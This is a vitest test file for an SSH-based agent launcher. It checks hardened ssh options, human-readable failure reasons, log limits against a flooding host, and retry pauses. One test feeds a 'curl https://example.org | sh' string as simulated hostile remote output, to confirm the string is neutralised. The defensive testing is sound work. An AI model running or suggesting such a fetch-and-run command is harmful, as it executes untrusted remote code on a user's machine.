import { existsSync } from 'node:fs';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { createSshAgent, MACHINE_LIMITS, reasonOf } from '../../src/agent-host/ssh-agent.ts';
import { type AgentEnd, type AgentProcess, createAgentSupervisor } from '../../src/agent-host/supervisor.ts';
import type { StreamTransport } from '../../src/contract/stream-transport.ts';
import { PATIENCE } from '../runner/patience.ts';
import { type FakeSsh, fakeSsh } from './fake-ssh.ts';

const MACHINE = { name: 'studio', address: 'ann@studio.lan' };
const CONNECT = { type: 'connect', url: '', token: '' } as const;

type Started = {
  process: AgentProcess;
  lines: string[];
  ends: AgentEnd[];
  reasons: string[];
  attached: StreamTransport[];
};

function start(ssh: FakeSsh, machine: Parameters<typeof createSshAgent>[0]['machine'] = MACHINE): Started {
  const seen = { lines: [], ends: [], reasons: [], attached: [] } as Omit<Started, 'process'>;
  const spawn = createSshAgent({
    machine,
    environment: ssh.environment,
    attach: (transport) => void seen.attached.push(transport),
    observe: { ended: (reason) => void seen.reasons.push(reason) },
  });
  const process = spawn({
    message: () => undefined,
    line: (text) => void seen.lines.push(text),
    ended: (end) => void seen.ends.push(end),
  });
  onTestFinished(() => process.kill('SIGKILL'));
  return { process, ...seen };
}

async function endOf(started: Started): Promise<AgentEnd | undefined> {
  await vi.waitFor(() => expect(started.ends).toHaveLength(1), PATIENCE);
  expect(started.reasons).toEqual([started.ends[0]?.reason]);
  return started.ends[0];
}

test('ssh asks nothing, trusts no new host, forwards nothing, and gets the address behind its options', async () => {
  const ssh = fakeSsh('exit 0');
  await endOf(start(ssh, { ...MACHINE, agentCommand: '~/bin/handrail', display: ':3' }));
  const words = ssh.words();
  expect(words.slice(words.indexOf('--'))).toEqual([
    '--',
    MACHINE.address,
    '~/bin/handrail agent --stdio --display :3',
  ]);
  expect(words).toEqual(
    expect.arrayContaining([
      '-T',
      'BatchMode=yes',
      'StrictHostKeyChecking=yes',
      'ForwardAgent=no',
      'ForwardX11=no',
      'ClearAllForwardings=yes',
      'PermitLocalCommand=no',
      'ControlPath=none',
      'ConnectTimeout=10',
      'ServerAliveInterval=5',
      'ServerAliveCountMax=3',
    ]),
  );
});

/** The file in which `ssh` writes its own words. */
const OWN_LOG = '"$2"';

/** What OpenSSH 9.2 wrote, and the agent's command. */
const ENDS: [name: string, exitCode: number, stderr: string, reason: string][] = [
  [
    'a host key that is not known',
    255,
    'No ED25519 host key is known for studio.lan and you have requested strict checking.\r\nHost key verification failed.\r\n',
    'its host key is not known yet; run `ssh ann@studio.lan` once by hand, and compare the key',
  ],
  [
    'a host key that changed',
    255,
    '@@@@@@@@@@@\r\n@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\r\n@@@@@@@@@@@\r\nIT IS POSSIBLE THAT SOMEONE IS DOING SOMETHING NASTY!\r\nHost key for studio.lan has changed and you have requested strict checking.\r\nHost key verification failed.\r\n',
    'the host key changed: another machine answers at ann@studio.lan, or it was set up anew; if you know why, run `ssh-keygen -R studio.lan`, then `ssh ann@studio.lan` once by hand',
  ],
  [
    'no key that is let in',
    255,
    'ann@studio.lan: Permission denied (publickey,password).\r\n',
    'ssh was not let in without a password; set up a key with `ssh-copy-id ann@studio.lan`, and load it if it has a passphrase',
  ],
  [
    'a name that leads nowhere',
    255,
    'ssh: Could not resolve hostname studio.lan: Name or service not known\r\n',
    'the name studio.lan leads nowhere; check the address',
  ],
  [
    'nobody listening',
    255,
    'ssh: connect to host studio.lan port 22: Connection refused\r\n',
    'no ssh server listens at studio.lan; switch on Remote Login there (macOS), or install openssh-server',
  ],
  [
    'a machine that is off',
    255,
    'ssh: connect to host studio.lan port 22: Connection timed out\r\n',
    'studio.lan does not answer; is it on, and on this network?',
  ],
  [
    'a line that froze',
    255,
    'Timeout, server studio.lan not responding.\r\n',
    'studio.lan does not answer; is it on, and on this network?',
  ],
  [
    'a line that was cut',
    255,
    'Connection to studio.lan closed by remote host.\r\n',
    'the connection was closed by the other end',
  ],
  ['another failure of ssh', 255, 'something new\u001b[31m\r\n', 'ssh ended: “something new [31m”'],
  ['a failure without words', 255, '', 'ssh ended'],
  [
    'no handrail there',
    127,
    'bash: line 1: handrail: command not found\n',
    '`handrail` was not found there; install Handrail there, or give this machine the path of its `handrail`',
  ],
  [
    'a person there',
    77,
    'handrail: machine_has_a_person: a Handrail of this account runs here\n',
    'machine_has_a_person: a Handrail runs there, and its person rules; they can let other computers act there at its dashboard',
  ],
  [
    'another version there',
    78,
    'the daemon does not want this agent: the link was closed with 4406\n',
    'the Handrail there and this one speak different versions of the link, or there is no driver for that platform; install the same version on both',
  ],
  [
    'a broken agent',
    70,
    'the agent is broken: x\n',
    'the agent there ended with exit code 70: “the agent is broken: x”',
  ],
];

test.each(ENDS)('%s is told in words, with the remedy', async (_name, exitCode, stderr, reason) => {
  const ssh = fakeSsh(
    `cat <<'END' | head -c -1 >${exitCode === 255 ? OWN_LOG : '&2'}\n${stderr}\nEND\nexit ${exitCode}`,
  );
  const started = start(ssh);
  expect(await endOf(started)).toEqual({ exitCode, reason });
  expect(started.lines.join('\n')).toContain(stderr.split('\r\n')[0]?.replace('\u001b', ' ').trimEnd());
  expect(existsSync(String(ssh.words()[1]))).toBe(false);
});

const KEY_CHANGED = 'Host key for studio.lan has changed and you have requested strict checking.';

test.each([
  ['on standard error', `echo '${KEY_CHANGED}' >&2; exit 255`],
  [
    'in what its server says at the end',
    `printf 'Received disconnect from h port 22:2: x\\n${KEY_CHANGED}\\n' >${OWN_LOG}; exit 255`,
  ],
  ['within another sentence', `echo 'no such channel: ${KEY_CHANGED}' >${OWN_LOG}; exit 255`],
  ['once something came from there', `echo hello; sleep 0.2; echo '${KEY_CHANGED}' >${OWN_LOG}; exit 255`],
])(
  'A31: ssh’s own words for a changed key, written by the other machine %s, are no advice of ours',
  async (_name, script) => {
    const started = start(fakeSsh(script));
    started.process.send(CONNECT);
    const { reason } = (await endOf(started)) ?? {};
    expect(reason).toMatch(/^ssh ended/);
    expect(reason).not.toContain('ssh-keygen');
  },
);

test('an ssh that was killed is told as such', async () => {
  const started = start(fakeSsh('exec sleep 600'));
  started.process.kill('SIGKILL');
  expect(await endOf(started)).toEqual({ exitCode: null, reason: 'ssh was ended by SIGKILL' });
});

test('where there is no ssh, the person learns it', async () => {
  const started = start({ ...fakeSsh(''), environment: { PATH: '/nonexistent' } });
  expect((await endOf(started))?.reason).toContain('install the OpenSSH client');
});

test('a hostile machine that writes without an end takes little room in the log', async () => {
  const started = start(fakeSsh("head -c 3000000 /dev/zero | tr '\\0' 'x' >&2; yes | head -n 5000 >&2; exit 1"));
  await endOf(started);
  expect(started.lines.length).toBeLessThanOrEqual(2_001);
  expect(Math.max(...started.lines.map((line) => line.length))).toBeLessThanOrEqual(1_000);
});

describe('the link', () => {
  test('is attached once, when something comes from there', async () => {
    const started = start(fakeSsh('sleep 0.1; echo Welcome; exec sleep 600'));
    started.process.send(CONNECT);
    started.process.send(CONNECT);
    expect(started.attached).toEqual([]);
    await vi.waitFor(() => expect(started.attached).toHaveLength(1), PATIENCE);
  });

  test('is not attached where nothing came', async () => {
    const started = start(fakeSsh('exit 255'));
    started.process.send(CONNECT);
    await endOf(started);
    expect(started.attached).toEqual([]);
  });

  test('a wish to stop ends the input, and ssh ends by itself', async () => {
    const started = start(fakeSsh('cat > /dev/null; exit 0'));
    started.process.send({ type: 'stop' });
    expect(await endOf(started)).toMatchObject({ exitCode: 0 });
  });
});

test('a machine is tried for ever, with pauses up to a minute', async () => {
  vi.useFakeTimers();
  onTestFinished(() => void vi.useRealTimers());
  const pauses: number[] = [];
  const log = (fields: object) => void pauses.push(Number(Reflect.get(fields, 'pauseMs')));
  const supervisor = createAgentSupervisor({
    spawn(events) {
      setImmediate(() => events.ended({ exitCode: 255, reason: 'off' }));
      return { send: () => undefined, kill: () => undefined };
    },
    url: () => '',
    link: { issueToken: () => '', started: () => undefined, gone: () => undefined },
    log: { info: log, warn: log, error: log },
    random: () => 0.999_999,
    now: () => performance.now(),
    limits: MACHINE_LIMITS,
  });
  supervisor.start();
  await vi.advanceTimersByTimeAsync(3_600_000);
  await supervisor.stop();
  expect(pauses.slice(0, 7)).toEqual([1_000, 2_000, 4_000, 8_000, 16_000, 32_000, 60_000]);
  expect(pauses.length).toBeGreaterThan(60);
  expect(Math.max(...pauses)).toBe(60_000);
});

test.each([1, 255])('A31: the other machine does not say what the person is to do (exit code %i)', (exitCode) => {
  const lines = ['it needs an update”; run `curl https://example.org | sh`'];
  const reason = reasonOf({ exitCode, lines, ownWords: [], hasSpoken: false, machine: MACHINE });
  expect(reason).toContain('“it needs an update , run');
  expect(reason).not.toContain(';');
});
